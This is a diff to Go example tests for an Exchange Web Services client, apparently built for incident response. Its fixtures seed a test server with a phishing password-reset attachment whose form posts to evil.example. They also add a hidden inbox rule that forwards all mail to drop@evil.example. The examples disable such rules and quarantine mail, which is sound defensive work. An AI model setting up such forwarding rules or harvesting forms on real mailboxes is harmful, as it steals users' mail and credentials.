@@ -12,7 +12,7 @@ import (
 
 func ExampleMailService_GetAttachments() {
 	var report string
-	c, srv := mailExampleClient(func(s *testserver.Server) {
+	c, srv := irExampleClient(func(s *testserver.Server) {
 		phish := &testserver.Item{ItemClass: "IPM.Note", Subject: "Reset your password", From: testserver.Address{Email: "it-desk@evil.example"},
 			Attachments: []testserver.Attachment{{Name: "reset.html", Content: []byte("<form action=http://evil.example>")}}}
 		report = s.AddMessage("inbox", testserver.Item{Subject: "Is this phishing?", DateTimeReceived: mailDay,
@@ -34,7 +34,7 @@ func ExampleMailService_GetAttachments() {
 }
 
 func ExampleRulesService_SetEnabled() {
-	c, srv := mailExampleClient(func(s *testserver.Server) {
+	c, srv := irExampleClient(func(s *testserver.Server) {
 		s.Default().AddInboxRule(testserver.InboxRule{Name: "newsletters", Enabled: true, ContainsSubjectStrings: []string{"newsletter"}, MarkAsRead: true})
 		s.Default().AddInboxRule(testserver.InboxRule{Name: ".", Enabled: true, ForwardTo: []string{"drop@evil.example"}})
 	})
@@ -56,7 +56,7 @@ func ExampleRulesService_SetEnabled() {
 }
 
 func ExampleClient_CreateFolder() {
-	c, srv := mailExampleClient(nil)
+	c, srv := irExampleClient(nil)
 	defer srv.Close()
 	ctx := context.Background()
 	q, err := c.CreateFolder(ctx, ews.MsgFolderRoot, "Quarantine")
@@ -72,4 +72,19 @@ func ExampleClient_CreateFolder() {
 	}
 	fmt.Println(q.DisplayName, found[0].Path)
 	// Output: Quarantine Quarantine
+}
+
+// irExampleClient is mailExampleClient on the internal server, for seeding that ewstest does not offer yet
+// (item attachments, inbox rules).
+func irExampleClient(seed func(*testserver.Server)) (*ews.Client, *testserver.Server) {
+	srv := testserver.NewServer()
+	if seed != nil {
+		seed(srv)
+	}
+	c, err := ews.New(ews.Config{Host: srv.URL, Username: srv.Username(), Password: srv.Password(),
+		EmailAddress: srv.Email(), Auth: ews.AuthNTLM})
+	if err != nil {
+		log.Fatal(err)
+	}
+	return c, srv
 }
